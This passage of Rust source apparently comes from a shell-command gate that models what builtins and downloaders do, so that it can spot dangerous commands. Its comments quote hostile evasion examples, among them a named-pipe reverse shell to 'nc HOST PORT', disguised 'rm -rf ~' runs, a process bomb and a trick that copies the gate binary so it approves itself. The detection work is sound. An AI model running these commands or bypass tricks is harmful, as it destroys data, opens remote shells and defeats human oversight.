//! The builtins and everyday programs that move values the reader tracks: what `echo`,
//! `printf` and `cat` print, what `read`, `mapfile`, `printf -v` and the declarations
//! assign, `set`/`shift`/`unset`, aliases, links made with `ln -s`, and the files `tee`,
//! `curl` and `wget` write.

use super::super::SimpleCommand;
use super::super::env::{DIR, FileText, Value};
use super::super::expand::{Field, ansi_c};
use super::super::walk::{Data, Io, Reader};
use super::texts;

/// Whether `program args` prints shell setup for `eval` (`pyenv init -`, `ssh-agent -s`,
/// `brew shellenv`, `direnv hook bash`): the tool's own functions and exports, made by the
/// tool, not from anything on the line. `direnv export` is not: it runs the project's
/// `.envrc`.
pub(super) fn prints_shell_setup(program: &str, args: &[Field]) -> bool {
    let first = args.first().map(|a| a.text.as_str());
    match program {
        "pyenv" | "rbenv" | "nodenv" | "goenv" | "jenv" | "plenv" | "phpenv" => {
            first == Some("init")
        }
        "direnv" => first == Some("hook"),
        "ssh-agent" => matches!(first, Some("-s" | "-c") | None),
        "minikube" => matches!(first, Some("docker-env" | "podman-env")),
        "brew" => first == Some("shellenv"),
        "fnm" => first == Some("env"),
        "conda" | "micromamba" => first.is_some_and(|a| a.starts_with("shell.")),
        "starship" | "zoxide" | "mise" | "rtx" | "atuin" => {
            matches!(first, Some("init" | "activate"))
        }
        "opam" => first == Some("env"),
        "luarocks" => first == Some("path"),
        "dircolors" => args.iter().all(|a| a.text.starts_with('-')),
        _ => false,
    }
}

/// Reads a program not in the table; returns what it prints.
pub(super) fn run(
    r: &mut Reader,
    program: &str,
    args: &[Field],
    io: &Io,
    stdin: Data,
    env: &[(String, Value)],
) -> Data {
    let known = |f: &Field| (!f.unknown).then(|| f.text.clone());
    match program {
        "echo" => {
            let mut newline = true;
            let mut escapes = false;
            let mut k = 0;
            while let Some(a) = args.get(k) {
                let flags = a
                    .text
                    .strip_prefix('-')
                    .filter(|f| !f.is_empty() && f.chars().all(|c| "neE".contains(c)));
                let Some(flags) = flags else { break };
                newline &= !flags.contains('n');
                escapes = flags.contains('e') || escapes && !flags.contains('E');
                k += 1;
            }
            let parts: Option<Vec<String>> = args[k..].iter().map(known).collect();
            match parts {
                Some(p) => {
                    let mut text = p.join(" ");
                    if escapes {
                        text = ansi_c(&text);
                    }
                    if newline {
                        text.push('\n');
                    }
                    Data::Known(text)
                }
                None => Data::Unknown,
            }
        }
        "printf" => {
            let t = texts(args);
            let (target, start) = match t.first().map(String::as_str) {
                Some("-v") => (t.get(1).cloned(), 2),
                Some("--") => (None, 1),
                _ => (None, 0),
            };
            let start = if t.get(start).is_some_and(|a| a == "--") {
                start + 1
            } else {
                start
            };
            let rest = args.get(start..).unwrap_or_default();
            let out = match rest.split_first() {
                Some((format, values)) if !format.unknown => {
                    let values: Option<Vec<String>> = values.iter().map(known).collect();
                    values.map(|v| printf(&format.text, &v))
                }
                _ => None,
            };
            match target {
                Some(name) => {
                    // `printf -v` fails in a POSIX shell and leaves the variable as it was.
                    let value = if r.posix {
                        Value::Unknown
                    } else {
                        out.map_or(Value::Unknown, Value::Known)
                    };
                    set_target(r, &name, value);
                    Data::Nothing
                }
                None => out.map_or(Data::Unknown, Data::Known),
            }
        }
        "read" => {
            // `IFS=/ read a b`: fields are cut as IFS says; only the default is followed.
            let ifs = env
                .iter()
                .rfind(|(name, _)| name == "IFS")
                .map_or_else(|| r.env.get("IFS"), |(_, v)| v.clone());
            let stdin = if ifs == Value::known(" \t\n") {
                stdin
            } else {
                Data::Unknown
            };
            read(r, args, stdin);
            Data::Nothing
        }
        "mapfile" | "readarray" => {
            let t = texts(args);
            if t.iter().any(|a| {
                a.starts_with("-C")
                    || (a.starts_with('-') && !a.starts_with("--") && a.contains('C'))
            }) {
                r.opaque("mapfile runs a command for the lines it reads (-C)");
            }
            let name = t
                .iter()
                .rev()
                .find(|a| !a.starts_with('-'))
                .cloned()
                .unwrap_or_else(|| "MAPFILE".to_owned());
            match stdin {
                Data::Known(text) if !r.posix => {
                    let items = text.lines().map(Value::known).collect();
                    r.env.set_array(&name, items);
                }
                _ => r.env.set_array(&name, vec![Value::Unknown]),
            }
            Data::Nothing
        }
        "declare" | "typeset" | "local" | "export" | "readonly" => {
            // Assignments are applied by the walker; `-n` makes a name refer to another.
            let t = texts(args);
            if t.iter()
                .any(|a| a.starts_with('-') && a.contains('n') && !a.starts_with("--"))
            {
                for a in t.iter().filter(|a| !a.starts_with('-')) {
                    let name = a.split('=').next().unwrap_or_default();
                    r.env.set(name, Value::Unknown);
                    if r.env.namerefs.len() < 64 {
                        r.env.namerefs.push(name.to_owned());
                    }
                }
            }
            Data::Nothing
        }
        "set" => {
            let t = texts(args);
            unread_shell_options(r, &t);
            if t.iter().any(|a| {
                a == "-x"
                    || a == "-o" && t.iter().any(|b| b == "xtrace")
                    || a.starts_with('-') && !a.starts_with("--") && a.contains('x')
            }) {
                r.env.xtrace = true;
                if let Value::Known(ps4) = r.env.get("PS4") {
                    r.special_variable("PS4", &Value::Known(ps4));
                }
            }
            if let Some(k) = t.iter().position(|a| a == "--") {
                r.env.positional = Some(args[k + 1..].iter().map(Field::value).collect());
            }
            Data::Nothing
        }
        "shift" => {
            let n = args
                .first()
                .and_then(|a| a.text.parse::<usize>().ok())
                .unwrap_or(1);
            if let Some(p) = r.env.positional.as_mut() {
                p.drain(..n.min(p.len()));
            }
            Data::Nothing
        }
        "unset" => {
            for a in texts(args).iter().filter(|a| !a.starts_with('-')) {
                r.subscript_of(a);
                r.env.unset(a);
            }
            Data::Nothing
        }
        "let" => {
            for a in texts(args) {
                r.arithmetic_command(&a);
            }
            Data::Nothing
        }
        "alias" => {
            for a in args {
                if let Some((name, value)) = a.text.split_once('=') {
                    if a.unknown {
                        r.opaque("an alias is defined from a value not known before it runs");
                        continue;
                    }
                    let texts = r.env.aliases.entry(name.to_owned()).or_default();
                    if texts.len() < super::super::walk::MAX_DEFINITIONS {
                        texts.push(value.to_owned());
                    }
                    // Read now too: what an alias runs is known the moment it is defined.
                    r.script(value, Data::Nothing);
                }
            }
            Data::Nothing
        }
        "cat" => {
            let files: Vec<&Field> = args
                .iter()
                .filter(|a| !a.text.starts_with('-') || a.text == "-")
                .collect();
            if files.is_empty() {
                return stdin;
            }
            let mut out = Data::Nothing;
            for f in files {
                let data = if f.text == "-" {
                    stdin.clone()
                } else {
                    r.file_data(f)
                };
                out = match (out, data) {
                    (Data::Unknown | Data::Listing(..), _)
                    | (_, Data::Unknown | Data::Listing(..)) => Data::Unknown,
                    (Data::Known(mut a), Data::Known(b)) => {
                        a.push_str(&b);
                        Data::Known(a)
                    }
                    // A file of the workspace: its text is not known here.
                    (_, Data::Nothing) => return Data::Unknown,
                    (Data::Nothing, d) => d,
                };
            }
            out
        }
        // What these print is not known, but where it is, or that it holds no `/`: written
        // as a pattern that matches it, enough to place a path made from it (`rm -rf
        // "$(mktemp -d)"` is in temp, a backup named with `$(date +%F)` stays in its
        // directory).
        "mktemp" => Data::Known(format!("{}\n", temp_name(&texts(args)))),
        "date" => match texts(args).iter().find_map(|a| a.strip_prefix('+')) {
            Some(format)
                if format.contains(['/', '\n'])
                    || format.contains("%D")
                    || format.contains("%x")
                    || format.contains("%c")
                    || format.contains("%r") =>
            {
                Data::Unknown
            }
            Some(format) => Data::Known(format!("{}\n", date_like(format))),
            None if args.is_empty() => Data::Known("*\n".to_owned()),
            None => Data::Unknown,
        },
        "whoami" if args.is_empty() => Data::Known(format!("{}\n", super::super::env::user_name())),
        // A number, as this machine has (`make -j"$(nproc)"`).
        "nproc" => Data::Known(format!(
            "{}\n",
            std::thread::available_parallelism().map_or(1, usize::from)
        )),
        "seq" => seq(args),
        "which" => match args {
            [name] if !name.text.starts_with('-') => r.program_path(name),
            _ => Data::Unknown,
        },
        "type" => match args {
            [flag, name] if flag.text == "-P" || flag.text == "-p" => r.program_path(name),
            _ => Data::Unknown,
        },
        "tee" => {
            let append = args.iter().any(|a| a.text == "-a" || a.text == "--append");
            let text = match &stdin {
                Data::Known(t) => FileText::Known(t.clone()),
                _ => FileText::Unknown,
            };
            for f in args.iter().filter(|a| !a.text.starts_with('-')) {
                r.env.write_file(&f.text, text.clone(), append);
            }
            stdin
        }
        "curl" | "wget" => {
            download(r, program, args, io);
            if program == "curl" {
                file_urls(r, args);
            }
            // `wget --use-askpass=PROGRAM` runs PROGRAM for a password.
            let t = texts(args);
            let askpass =
                t.iter()
                    .enumerate()
                    .find_map(|(k, a)| match a.strip_prefix("--use-askpass") {
                        Some(v) if v.starts_with('=') => Some(v[1..].to_owned()),
                        Some("") => t.get(k + 1).cloned(),
                        _ => None,
                    });
            if program == "wget"
                && let Some(askpass) = askpass
            {
                r.run(
                    vec![Field::literal(&askpass)],
                    &Io::default(),
                    Data::Nothing,
                    &[],
                );
            }
            Data::Unknown
        }
        "gh" if args.len() > 1 && args[0].text == "release" && args[1].text == "download" => {
            release_download(r, &texts(&args[2..]));
            Data::Unknown
        }
        "ls" => super::runners::ls(r, args),
        "unzip" | "7z" | "7za" | "7zz" => {
            extracted(r, program, &texts(args), &stdin);
            Data::Unknown
        }
        "grep" | "egrep" | "fgrep" => super::runners::grep(r, args),
        "rg" => super::runners::rg(
            r,
            args,
            env.iter().any(|(name, _)| name == "RIPGREP_CONFIG_PATH"),
        ),
        // apt installs through dpkg, which runs the packages' scripts: what dpkg is given
        // is not known here.
        "apt" | "apt-get" | "aptitude" => {
            r.record(SimpleCommand {
                program: "dpkg".to_owned(),
                args: vec![crate::matcher::shell::SUBSTITUTION.to_owned()],
                redirects: Vec::new(),
                origin: Some(format!("run by {program}")),
                dir: None,
            });
            Data::Unknown
        }
        // A named pipe carries what another process writes into it: reading it gives
        // something not known here (`mkfifo f; sh < f | nc HOST PORT > f`).
        "mkfifo" | "mknod" => {
            let operands = args.iter().filter(|a| !a.text.starts_with('-'));
            let names: Vec<String> = match program {
                "mknod" => operands.take(1).map(|a| a.text.clone()).collect(),
                _ => operands.map(|a| a.text.clone()).collect(),
            };
            for name in names {
                r.env.write_file(&name, FileText::Unknown, false);
            }
            Data::Nothing
        }
        // A copy of a system program runs as that program (`cp /bin/rm x && ./x -rf ~`):
        // remembered as a link, which running it resolves.
        "cp" | "install" => {
            let t = texts(args);
            // install's options that take a value: `install -m 755 SRC DEST`.
            let valued = |a: &str| program == "install" && matches!(a, "-m" | "-o" | "-g" | "-S");
            let operands: Vec<&String> = t
                .iter()
                .enumerate()
                .filter(|(k, a)| !(a.starts_with('-') || *k > 0 && valued(t[*k - 1].as_str())))
                .map(|(_, a)| a)
                .collect();
            // A copy of a system program, of a program the reader treats specially, or of
            // the gate's own binary runs as what it copies (`cp hookgate /tmp/hg && /tmp/hg
            // approvals approve 1`).
            let known_program = |source: &str| {
                let name = source.rsplit('/').next().unwrap_or_default();
                name == "hookgate" || super::table::is_special(name)
            };
            if let [source, dest] = operands.as_slice()
                && ([
                    "/bin/",
                    "/sbin/",
                    "/usr/bin/",
                    "/usr/sbin/",
                    "/usr/local/bin/",
                ]
                .iter()
                .any(|dir| source.starts_with(dir))
                    || known_program(source))
            {
                r.env
                    .links
                    .insert(super::super::env::file_key(dest), source.to_string());
            }
            // `cp /dev/stdin x.sh <<< 'rm -rf ~'`: the file holds what standard input does.
            if let [source, dest] = operands.as_slice()
                && super::super::walk::is_stdin_path(source)
            {
                let text = match &stdin {
                    Data::Known(t) => FileText::Known(t.clone()),
                    _ => FileText::Unknown,
                };
                r.env.write_file(dest, text, false);
            }
            Data::Nothing
        }
        // `hash -p /bin/rm ls`: the name runs that program from now on, as an alias would.
        "hash" => {
            let t = texts(args);
            let mut words = t.iter();
            while let Some(w) = words.next() {
                if w == "-p"
                    && let (Some(path), Some(name)) = (words.next(), words.next())
                {
                    r.env
                        .aliases
                        .entry(name.clone())
                        .or_default()
                        .push(path.clone());
                }
            }
            Data::Nothing
        }
        "ln" => {
            let t = texts(args);
            if t.iter().any(|a| {
                a.starts_with('-') && !a.starts_with("--") && a.contains('s') || a == "--symbolic"
            }) {
                let operands: Vec<&String> = t.iter().filter(|a| !a.starts_with('-')).collect();
                if let [target, link] = operands.as_slice() {
                    r.env
                        .links
                        .insert(super::super::env::file_key(link), target.to_string());
                }
            }
            Data::Nothing
        }
        // `mkfs -t TYPE args` runs `mkfs.TYPE args`.
        "mkfs" => {
            let t = texts(args);
            if let Some(k) = t.iter().position(|a| a == "-t")
                && let Some(kind) = args.get(k + 1)
            {
                let mut command = vec![Field {
                    text: format!("mkfs.{}", kind.text),
                    ..kind.clone()
                }];
                command.extend(args[..k].iter().cloned());
                command.extend(args[k + 2..].iter().cloned());
                return r.run(command, &Io::default(), Data::Nothing, &[]);
            }
            Data::Unknown
        }
        "cd" | "pushd" => {
            change_dir(r, args);
            Data::Nothing
        }
        // Back to a directory the stack holds: not tracked.
        "popd" => {
            r.env.set(DIR, Value::Unknown);
            Data::Nothing
        }
        "shopt" => {
            let t = texts(args);
            if t.iter().any(|a| a == "nocaseglob") {
                if t.iter().any(|a| a == "-s") {
                    r.env.nocaseglob = true;
                } else if t.iter().any(|a| a == "-u") {
                    r.env.nocaseglob = false;
                }
            }
            Data::Nothing
        }
        "true" | "false" | ":" | "test" | "[" | "exit" | "return" | "wait" | "break"
        | "continue" => Data::Nothing,
        _ => Data::Unknown,
    }
}

/// Options of `set` or the shell's own command line that change how the rest of the script
/// is read in a way the reader does not follow: `-k`, which puts assignment words after
/// the command's name into its environment (`git commit GIT_EDITOR='sh -c …'`). What
/// follows is opaque.
pub(in crate::matcher::shell) fn unread_shell_options(r: &mut Reader, args: &[String]) {
    let args = &args[..args.iter().position(|a| a == "--").unwrap_or(args.len())];
    let bundle_k = |a: &String| a.starts_with('-') && !a.starts_with("--") && a.contains('k');
    let enabling = |k: usize| args[..k].iter().all(|a| !a.starts_with('+'));
    let unread = args
        .iter()
        .enumerate()
        .any(|(k, a)| bundle_k(a) || a == "keyword" && enabling(k));
    if unread {
        r.opaque("the line turns on `set -k`, which changes what its words mean");
    }
}

/// `cd DIR` / `pushd DIR`: where the following commands run. `cd` alone goes home; `cd -`,
/// a value not known, or a relative name while the line set `CDPATH` (which bash searches
/// first) go somewhere the reader cannot tell.
fn change_dir(r: &mut Reader, args: &[Field]) {
    let operands: Vec<&Field> = args
        .iter()
        .skip_while(|a| a.text.starts_with('-') && a.text.len() > 1 && a.text != "--")
        .skip_while(|a| a.text == "--")
        .collect();
    let to = match operands.as_slice() {
        [] => Value::known("~"),
        [target] if target.unknown || target.text == "-" => Value::Unknown,
        [target] => {
            let t = &target.text;
            if t.starts_with('/') || t == "~" || t.starts_with("~/") {
                Value::known(t.clone())
            } else if r.env.assigned("CDPATH") && !t.starts_with("./") && !t.starts_with("../") {
                Value::Unknown
            } else {
                match r.env.get(DIR) {
                    Value::Known(here) => Value::known(format!("{here}/{t}")),
                    Value::Unknown => Value::Unknown,
                }
            }
        }
        _ => Value::Unknown,
    };
    r.env.set(DIR, to);
}

/// `name` or `name[index]` set to `value`.
fn set_target(r: &mut Reader, name: &str, value: Value) {
    r.subscript_of(name);
    match name.split_once('[') {
        Some((array, index)) => {
            r.env
                .set_element(array, index.trim_end_matches(']').to_owned(), value);
        }
        None => r.env.set(name, value),
    }
}

/// `read [-r] [-a array] [-d delim] names...` from what standard input carries.
fn read(r: &mut Reader, args: &[Field], stdin: Data) {
    let t = texts(args);
    let mut names = Vec::new();
    let mut array = None;
    let mut delimiter = '\n';
    let mut raw = false;
    let mut k = 0;
    while let Some(a) = t.get(k) {
        if let Some(flags) = a.strip_prefix('-').filter(|f| !f.is_empty()) {
            for (j, c) in flags.char_indices() {
                if "adinNptu".contains(c) {
                    let rest = &flags[j + 1..];
                    let value = if rest.is_empty() {
                        k += 1;
                        t.get(k).cloned().unwrap_or_default()
                    } else {
                        rest.to_owned()
                    };
                    match c {
                        'a' => array = Some(value),
                        'd' => delimiter = value.chars().next().unwrap_or('\0'),
                        _ => {}
                    }
                    break;
                }
                raw |= c == 'r';
            }
        } else {
            names.push(a.clone());
        }
        k += 1;
    }
    if names.is_empty() && array.is_none() {
        names.push("REPLY".to_owned());
    }
    let line = match stdin {
        Data::Known(text) => Some(text.split(delimiter).next().unwrap_or_default().to_owned()),
        _ => None,
    };
    let line = line.map(|l| {
        if raw {
            l
        } else {
            l.replace("\\\n", "").replace('\\', "")
        }
    });
    if let Some(a) = array {
        let items = match &line {
            Some(l) => l.split_whitespace().map(Value::known).collect(),
            None => vec![Value::Unknown],
        };
        r.env.set_array(&a, items);
        return;
    }
    let Some(line) = line else {
        for n in &names {
            r.env.set(n, Value::Unknown);
        }
        return;
    };
    // Each name takes one field; the last takes the rest of the line.
    let mut rest = line.trim_start_matches([' ', '\t']);
    for (k, n) in names.iter().enumerate() {
        if k + 1 == names.len() {
            r.env
                .set(n, Value::known(rest.trim_end_matches([' ', '\t'])));
        } else {
            let end = rest.find([' ', '\t']).unwrap_or(rest.len());
            r.env.set(n, Value::known(&rest[..end]));
            rest = rest[end..].trim_start_matches([' ', '\t']);
        }
    }
}

/// `printf FORMAT ARGS`: `%s`, `%b`, `%c`, `%d`/`%i`, `%q`-free formats, with widths; the
/// format is reused while arguments remain, as bash does.
pub(super) fn printf(format: &str, args: &[String]) -> String {
    let format = ansi_c(format);
    let mut out = String::new();
    let mut next = 0;
    loop {
        let mut used = false;
        let chars: Vec<char> = format.chars().collect();
        let mut i = 0;
        while i < chars.len() {
            if chars[i] != '%' {
                out.push(chars[i]);
                i += 1;
                continue;
            }
            i += 1;
            let spec_start = i;
            while i < chars.len() && "-+ #0123456789.".contains(chars[i]) {
                i += 1;
            }
            let spec: String = chars[spec_start..i.min(chars.len())].iter().collect();
            let Some(&conv) = chars.get(i) else { break };
            i += 1;
            if conv == '%' {
                out.push('%');
                continue;
            }
            let arg = args.get(next).cloned().unwrap_or_default();
            next += 1;
            used = true;
            let text = match conv {
                'b' => ansi_c(&arg),
                'c' => arg.chars().next().map(String::from).unwrap_or_default(),
                'd' | 'i' | 'u' => arg.trim().parse::<i64>().unwrap_or(0).to_string(),
                _ => arg,
            };
            let left = spec.starts_with('-');
            let width: usize = spec
                .trim_start_matches(['-', '+', ' ', '#', '0'])
                .split('.')
                .next()
                .and_then(|w| w.parse().ok())
                .unwrap_or(0)
                .min(4096);
            let precision: Option<usize> = spec.split_once('.').and_then(|(_, p)| p.parse().ok());
            let text: String = match (conv, precision) {
                ('s' | 'b', Some(p)) => text.chars().take(p).collect(),
                _ => text,
            };
            let pad = width.saturating_sub(text.chars().count());
            if left {
                out.push_str(&text);
                out.extend(std::iter::repeat_n(' ', pad));
            } else {
                out.extend(std::iter::repeat_n(' ', pad));
                out.push_str(&text);
            }
        }
        if !used || next >= args.len() {
            break;
        }
    }
    out
}

/// Remembers the files `curl`/`wget` write (`-o`, `-O`, `--output-document=`, `>`, or the
/// URL's file name): running one runs code nobody has seen.
fn download(r: &mut Reader, program: &str, args: &[Field], io: &Io) {
    let t = texts(args);
    let mut targets: Vec<String> = io
        .redirects
        .iter()
        .filter(|x| x.op != "<")
        .map(|x| x.target.clone())
        .collect();
    targets.extend(crate::matcher::shell::effects::download_output(program, &t).map(str::to_owned));
    let dir = download_dir(program, &t);
    for a in &t {
        if a.contains("://")
            && let Some(name) = a.rsplit('/').next().filter(|n| !n.is_empty())
        {
            targets.push(match dir {
                Some(d) => format!("{}/{name}", d.trim_end_matches('/')),
                None => name.to_owned(),
            });
        }
    }
    r.env.fetches = true;
    for target in targets {
        r.env.write_file(&target, FileText::Unknown, false);
    }
}

/// `curl file:///PATH` reads PATH, as `cat PATH` does (what it prints is judged by
/// [`streams`](crate::matcher::shell::streams)).
fn file_urls(r: &mut Reader, args: &[Field]) {
    for path in args
        .iter()
        .filter_map(|a| super::urls::file_url_path(&a.text))
    {
        let fields = ["cat", "--", &path]
            .into_iter()
            .map(Field::literal)
            .collect();
        r.run(fields, &Io::default(), Data::Nothing, &[]);
    }
}

/// Whether `path` is on another machine: `host:path`, `user@host:path`, `scheme://`.
pub(super) fn is_remote(path: &str) -> bool {
    !crate::matcher::shell::effects::is_local(path)
}

/// `scp`/`rsync` from another machine to this one: the local destination (the last
/// operand) holds downloads: it is the file copied to, or a directory that gets the
/// remote file's name, or (`recursive`) a directory of downloaded files.
pub(super) fn copied_from_afar(r: &mut Reader, operands: &[&str], recursive: bool) {
    let Some((dest, sources)) = operands.split_last() else {
        return;
    };
    if is_remote(dest) || !sources.iter().any(|s| is_remote(s)) {
        return;
    }
    r.env.fetches = true;
    if recursive {
        r.env.downloaded_dir(dest);
    }
    r.env.write_file(dest, FileText::Unknown, false);
    for source in sources.iter().filter(|s| is_remote(s)) {
        if let Some(name) = source.rsplit(['/', ':']).next().filter(|n| !n.is_empty()) {
            let dir = dest.trim_end_matches('/');
            r.env
                .write_file(&format!("{dir}/{name}"), FileText::Unknown, false);
        }
    }
}

/// `gh release download`: assets go to `-D DIR` (`--dir`), or the working directory;
/// `-O FILE` (`--output`) names the one file.
pub(super) fn release_download(r: &mut Reader, t: &[String]) {
    r.env.fetches = true;
    let value = |short: &str, long: &str| {
        t.iter().enumerate().find_map(|(k, a)| {
            if a == short || a == long {
                t.get(k + 1).cloned()
            } else {
                a.strip_prefix(&format!("{long}=")).map(str::to_owned)
            }
        })
    };
    match (value("-O", "--output"), value("-D", "--dir")) {
        (Some(file), _) => r.env.write_file(&file, FileText::Unknown, false),
        (None, dir) => r.env.downloaded_dir(dir.as_deref().unwrap_or(".")),
    }
}

/// An archive the line downloaded (or made from a command's output), extracted: every file
/// of the directory it goes to is then a download (`curl -o x.zip URL && unzip x.zip -d d &&
/// d/run`). `unzip ARCHIVE [-d DIR]`, `7z x ARCHIVE [-oDIR]`, `tar -x -f ARCHIVE [-C DIR]`.
pub(super) fn extracted(r: &mut Reader, program: &str, t: &[String], stdin: &Data) {
    let (archive, dir): (Option<&str>, Option<&str>) = match program {
        "unzip" => (
            // The first operand that is not `-d`'s directory.
            t.iter()
                .enumerate()
                .find(|(k, a)| !a.starts_with('-') && (*k == 0 || t[k - 1] != "-d"))
                .map(|(_, a)| a.as_str()),
            t.iter()
                .position(|a| a == "-d")
                .and_then(|k| t.get(k + 1))
                .map(String::as_str),
        ),
        "7z" | "7za" | "7zz" => {
            if !t.first().is_some_and(|c| c == "x" || c == "e") {
                return;
            }
            (
                t.iter()
                    .skip(1)
                    .find(|a| !a.starts_with('-'))
                    .map(String::as_str),
                t.iter().find_map(|a| a.strip_prefix("-o")),
            )
        }
        _ => {
            // Short bundles: `-xzf`, or the first word without a dash (`tar xzf a.tgz`).
            fn bundle(k: usize, a: &str) -> Option<&str> {
                let letters = match a.strip_prefix('-') {
                    Some(rest) if !rest.starts_with('-') => rest,
                    None if k == 0 => a,
                    _ => return None,
                };
                letters
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric())
                    .then_some(letters)
            }
            let extracts = t.iter().enumerate().any(|(k, a)| {
                a == "--extract" || a == "--get" || bundle(k, a).is_some_and(|b| b.contains('x'))
            });
            if !extracts {
                return;
            }
            let (mut archive, mut dir) = (None, None);
            for (k, a) in t.iter().enumerate() {
                let next = t.get(k + 1).map(String::as_str);
                if let Some(f) = a.strip_prefix("--file=") {
                    archive = Some(f);
                } else if let Some(d) = a.strip_prefix("--directory=") {
                    dir = Some(d);
                } else if a == "--file" {
                    archive = next;
                } else if a == "-C" || a == "--directory" {
                    dir = next;
                } else if bundle(k, a).is_some_and(|b| b.ends_with('f')) {
                    archive = next;
                }
            }
            (archive, dir)
        }
    };
    // tar reads the archive from standard input without `-f` (or with `-f -`); a
    // descriptor (`-f <(curl URL)`) holds a command's output.
    let from_stdin = program != "unzip" && !program.starts_with("7z");
    let streamed = match archive {
        None => from_stdin && matches!(stdin, Data::Unknown),
        Some(a) if crate::matcher::shell::walk::is_stdin_path(a) => {
            matches!(stdin, Data::Unknown)
        }
        Some(a) => {
            a.starts_with("/dev/fd/")
                || a.starts_with("/proc/self/fd/")
                || a == crate::matcher::shell::SUBSTITUTION
        }
    };
    let downloaded = streamed && r.env.fetches
        || archive.is_some_and(|a| {
            matches!(
                r.env.files.get(&super::super::env::file_key(a)),
                Some(FileText::Unknown)
            )
        });
    if downloaded {
        r.env.downloaded_dir(dir.unwrap_or("."));
    }
}

/// The directory a download by its remote name goes to: wget's `-P DIR`
/// (`--directory-prefix`), curl's `--output-dir DIR`.
fn download_dir<'a>(program: &str, args: &'a [String]) -> Option<&'a str> {
    let (short, long) = match program {
        "wget" => (Some("-P"), "--directory-prefix"),
        _ => (None, "--output-dir"),
    };
    let mut words = args.iter();
    while let Some(a) = words.next() {
        // `-P DIR`, and a bundle that ends in it (`-qP DIR`).
        let bundled = short.is_some_and(|s| {
            a.len() > 2 && a.starts_with('-') && !a.starts_with("--") && a.ends_with(&s[1..])
        });
        if Some(a.as_str()) == short || a == long || bundled {
            return words.next().map(String::as_str);
        }
        if let Some(v) = a.strip_prefix(long).and_then(|v| v.strip_prefix('=')) {
            return Some(v);
        }
        if let Some(v) = short
            .and_then(|s| a.strip_prefix(s))
            .filter(|v| !v.is_empty())
        {
            return Some(v);
        }
    }
    None
}

/// A pattern for the path `mktemp` prints: in `-p DIR`/`--tmpdir=DIR` (else `$TMPDIR`,
/// else `/tmp`), named by its template with `*` for the random `X`s.
fn temp_name(args: &[String]) -> String {
    let mut dir: Option<&str> = None;
    let mut template: Option<&str> = None;
    let mut tmpdir_flag = false;
    let mut iter = args.iter();
    while let Some(a) = iter.next() {
        match a.as_str() {
            "-p" | "--tmpdir" => dir = iter.next().map(String::as_str),
            "-t" => tmpdir_flag = true,
            "--suffix" => {
                iter.next();
            }
            o if o.starts_with("--tmpdir=") => dir = o.strip_prefix("--tmpdir="),
            o if o.starts_with('-') => {}
            t => template = Some(t),
        }
    }
    let base = || {
        dir.map(str::to_owned)
            .or_else(|| std::env::var("TMPDIR").ok().filter(|d| d.starts_with('/')))
            .unwrap_or_else(|| "/tmp".to_owned())
    };
    // The `X`s become random characters: a `*` matches them.
    let random = |t: &str| format!("{}*", t.trim_end_matches('X'));
    match template {
        Some(t) if t.contains('/') && !tmpdir_flag && dir.is_none() => random(t),
        Some(t) => format!("{}/{}", base(), random(t.rsplit('/').next().unwrap_or(t))),
        None => format!("{}/tmp.*", base()),
    }
}

/// A pattern for what `date +FORMAT` prints: each conversion a `*`. The caller has ruled
/// out the ones that print a `/`.
fn date_like(format: &str) -> String {
    let mut out = String::new();
    let mut chars = format.chars();
    while let Some(c) = chars.next() {
        if c == '%' {
            chars.next();
            if !out.ends_with('*') {
                out.push('*');
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// The most numbers a `seq` read here prints; past it, what it prints is not known (and a
/// process started per number, all at once, is a bomb: `seq 1000000 | xargs -P 0 -n 1`).
const MOST_SEQ_NUMBERS: i64 = 4096;

/// What `seq [FIRST [STEP]] LAST` prints, for integers and no options.
fn seq(args: &[Field]) -> Data {
    let numbers: Option<Vec<i64>> = args
        .iter()
        .map(|a| (!a.unknown).then(|| a.text.parse::<i64>().ok()).flatten())
        .collect();
    let (first, step, last) = match numbers.as_deref() {
        Some([last]) => (1, 1, *last),
        Some([first, last]) => (*first, 1, *last),
        Some([first, step, last]) if *step != 0 => (*first, *step, *last),
        _ => return Data::Unknown,
    };
    let count = last
        .checked_sub(first)
        .and_then(|d| d.checked_div(step))
        .and_then(|c| c.checked_add(1));
    let Some(count) = count.filter(|c| *c <= MOST_SEQ_NUMBERS) else {
        return Data::Unknown;
    };
    let mut out = String::new();
    let mut n = first;
    for _ in 0..count.max(0) {
        out.push_str(&n.to_string());
        out.push('\n');
        n = n.saturating_add(step);
    }
    Data::Known(out)
}

/// Whether `program` with `args` prints some of the lines it reads, unchanged, and reads
/// nothing else: `tail -n +6`, `head -3`, `grep -v node_modules`, `sort -r`, `uniq`,
/// `tac`, `shuf -n 2`, `cat`. Of a listing, it prints some of its names.
pub(super) fn keeps_lines(program: &str, args: &[Field]) -> bool {
    if args.iter().any(|a| a.unknown) {
        return false;
    }
    let t: Vec<&str> = args.iter().map(|a| a.text.as_str()).collect();
    let count = |v: &str| {
        let v = v.strip_prefix('+').unwrap_or(v);
        !v.is_empty() && v.chars().all(|c| c.is_ascii_digit())
    };
    // Each word a flag of `letters`, an option of `valued` with its value, or (`operands`
    // of them at most) an operand.
    let shaped = |letters: &str, valued: &[&str], long: &[&str], operands: usize| {
        let mut k = 0;
        let mut seen = 0;
        while let Some(w) = t.get(k) {
            if valued.contains(w) {
                k += 2;
                continue;
            }
            let ok = if let Some(l) = w.strip_prefix("--") {
                long.contains(&l)
            } else if let Some(flags) = w.strip_prefix('-').filter(|f| !f.is_empty()) {
                flags.chars().all(|c| letters.contains(c))
            } else {
                seen += 1;
                seen <= operands
            };
            if !ok {
                return false;
            }
            k += 1;
        }
        // A valued option at the end with no value.
        k == t.len()
    };
    match program {
        "head" | "tail" => {
            let mut k = 0;
            while let Some(w) = t.get(k) {
                let ok = match *w {
                    "-n" | "--lines" => {
                        k += 1;
                        t.get(k).is_some_and(|v| count(v))
                    }
                    "-q" | "--quiet" | "--silent" => true,
                    _ => w
                        .strip_prefix("--lines=")
                        .or_else(|| w.strip_prefix("-n"))
                        .or_else(|| w.strip_prefix('-'))
                        .is_some_and(count),
                };
                if !ok {
                    return false;
                }
                k += 1;
            }
            true
        }
        // Only an inverted grep (`grep -v node_modules`): what a pattern keeps is narrower
        // than the listing's patterns say (`git ls-files | grep '\.py$'` names no `.env`),
        // and is left as text not known, as before.
        "grep" | "egrep" | "fgrep"
            if t.iter().any(|w| {
                *w == "--invert-match"
                    || w.strip_prefix('-')
                        .is_some_and(|f| !f.starts_with('-') && f.contains('v'))
            }) =>
        {
            let patterns = if t.contains(&"-e") { 0 } else { 1 };
